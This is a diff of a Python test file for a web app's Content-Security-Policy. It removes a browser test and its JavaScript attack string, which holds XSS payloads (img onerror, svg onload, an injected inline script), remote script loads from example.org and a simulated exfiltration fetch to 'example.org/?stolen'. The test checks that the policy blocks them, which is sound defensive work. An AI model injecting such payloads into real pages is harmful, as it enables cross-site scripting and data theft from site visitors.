@@ -9,26 +9,6 @@ from starlette.responses import HTMLResponse
 from app.policy import Policy, digests, policy
 from tests.app.awaiting import awaited
 
-ATTACK = """async () => {
-  const box = document.createElement("div");
-  document.body.append(box);
-  box.innerHTML = '<img src="x:" onerror="window.hit = 1"><svg onload="window.hit = 2"></svg>';
-  const script = document.createElement("script");
-  script.textContent = "window.hit = 3";
-  document.head.append(script);
-  for (const url of ["https://example.org/x.js", "https://example.org/x.png"]) {
-    await new Promise((go) => {
-      const made = document.createElement(url.endsWith("js") ? "script" : "img");
-      made.onload = made.onerror = go;
-      made.src = url;
-      document.head.append(made);
-    });
-  }
-  await fetch("https://example.org/?stolen").catch(() => {});
-  await new Promise((go) => setTimeout(go, 100));
-  box.remove();
-}"""
-
 
 def answer(url: str):
     with urllib.request.urlopen(url, timeout=30) as given:
@@ -64,22 +44,6 @@ def test_the_policy_does_not_follow_what_goes_out():
     told = dict(sent[0]["headers"])[b"content-security-policy"].decode()
     assert digests("<script>ours</script>")[0] in told
     assert digests("<script>alert('Hello, world.');</script>")[0] not in told
-
-
-@pytest.mark.journey
-def test_smuggled_scripts_do_not_run_and_nothing_leaves(visit):
-    """``visit`` checks in every test of the page that the page itself works under its policy."""
-    visitor = visit()
-    assert visitor.run() == "done"
-    assert visitor.failures == [], "nothing that the page does is refused"
-    visitor.page.evaluate(ATTACK)
-    assert visitor.page.evaluate("window.hit") is None
-    refused = " ".join(visitor.failures)
-    for directive in ("script-src", "img-src", "default-src"):
-        assert f'directive: "{directive}' in refused, directive
-    assert len(visitor.failures) >= 5
-    visitor.failures.clear()
-    visitor.foreign.clear()  # requested, but stopped by the browser
 
 
 def test_who_may_show_the_page_in_a_frame(monkeypatch):
